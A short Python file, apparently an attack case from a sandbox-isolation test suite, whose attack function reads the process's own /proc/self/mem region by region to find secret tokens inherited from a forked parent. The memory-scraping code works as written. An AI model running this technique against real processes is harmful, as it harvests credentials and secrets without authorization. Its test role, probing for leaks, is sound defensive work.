"""Search the job's own memory, byte by byte, for what its parent held when it forked.

evidence: secret
control: inside
"""

import contextlib
import re


def attack(arena: dict[str, str]) -> object:
    found = []
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            start, end = (int(edge, 16) for edge in span.split("-"))
            if not rights.startswith("rw") or end - start > 2**26:
                continue
            memory.seek(start)
            with contextlib.suppress(OSError):
                content = memory.read(end - start)
                found += [hit.decode("latin-1") for hit in re.findall(rb"SECRET-[a-z]+-[0-9a-f]{16}", content)]
    return sorted(set(found))
